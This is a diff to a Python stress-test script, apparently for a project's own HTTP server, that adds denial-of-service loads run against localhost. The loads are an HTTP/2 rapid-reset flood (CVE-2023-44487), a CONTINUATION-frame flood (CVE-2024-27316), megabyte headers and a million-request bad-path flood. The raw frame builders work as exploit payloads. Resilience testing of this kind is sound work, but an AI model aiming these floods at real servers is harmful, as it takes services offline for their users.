@@ -4,9 +4,10 @@
     abuse.py SERVER_BINARY SNAPSHOT_FOLDER
 
 Measures a client that stays and clients that come new, quiet and under each
-attack: 2,000 slow heads, heads of a megabyte, paths that might be objects and
-are none. Needs slowhttptest and wrk. The attackers share the machine: what they
-take of its processors shows as well.
+attack: 2,000 slow heads, heads of a megabyte, HTTP/2 requests that are taken
+back at once, HTTP/2 heads that never end, a million paths that might be objects
+and are none. Needs slowhttptest and wrk. The attackers share the machine: what
+they take of its processors shows as well.
 """
 
 import socket
@@ -34,11 +35,13 @@ def main():
             "quiet": quiet,
             "2,000 slow heads": slow_heads,
             "1 MB heads": large_heads,
-            "bad paths": bad_paths,
+            "rapid resets": rapid_resets,
+            "endless h2 heads": continuations,
+            "a million bad paths": bad_paths,
             "quiet again": quiet,
         }.items():
             with attack(port):
-                print(f"{name:18}{measure(port)}; {memory(server.pid)}", flush=True)
+                print(f"{name:20}{measure(port)}; {memory(server.pid)}", flush=True)
     finally:
         server.terminate()
         server.wait()
@@ -94,17 +97,54 @@ def slow_heads(port):
 
 @contextmanager
 def large_heads(port):
+    head = b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * (1 << 20)
+    with again_and_again(port, lambda connection: connection.sendall(head)):
+        yield
+
+
+def frame(kind, flags, stream, payload):
+    """RFC 9113, section 4.1."""
+    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
+    return head + stream.to_bytes(4, "big") + payload
+
+
+HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
+GET = b"\x82\x86\x04\x0d/version.json\x01\x01a"
+
+
+@contextmanager
+def rapid_resets(port):
+    """CVE-2023-44487."""
+    pairs = b"".join(
+        frame(1, 5, stream, GET) + frame(3, 0, stream, (8).to_bytes(4, "big"))
+        for stream in range(1, 20_000, 2)
+    )
+    with again_and_again(port, lambda connection: connection.sendall(HELLO + pairs)):
+        yield
+
+
+@contextmanager
+def continuations(port):
+    """CVE-2024-27316."""
+    flood = frame(9, 0, 1, b"\x00\x01a\x01b" * 3000) * 100
+    with again_and_again(port, lambda connection: connection.sendall(HELLO + frame(1, 1, 1, GET) + flood)):
+        yield
+
+
+@contextmanager
+def again_and_again(port, attack):
+    """On new connections, as fast as one thread can; a pause of 5 ms leaves the others a processor."""
     stop = threading.Event()
 
-    def attack():
+    def run():
         while not stop.wait(0.005):
             try:
                 with socket.create_connection(("127.0.0.1", port)) as connection:
-                    connection.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * (1 << 20))
+                    attack(connection)
             except OSError:
                 pass  # the server has had enough, as it should
 
-    thread = threading.Thread(target=attack)
+    thread = threading.Thread(target=run)
     thread.start()
     time.sleep(0.5)
     yield
@@ -121,7 +161,8 @@ def bad_paths(port):
                 return wrk.format("GET", string.format("/tables/grips/%064x.json", n))
             end""")
         script.flush()
-        command = ["wrk", "-t1", "-c8", "-d8s", "-s", script.name, f"http://127.0.0.1:{port}"]
+        # Until there were a million, in the name of the last one of which nothing exists either.
+        command = ["wrk", "-t1", "-c8", "-d60s", "-s", script.name, f"http://127.0.0.1:{port}"]
         with background(command, seconds_before=1):
             yield
 
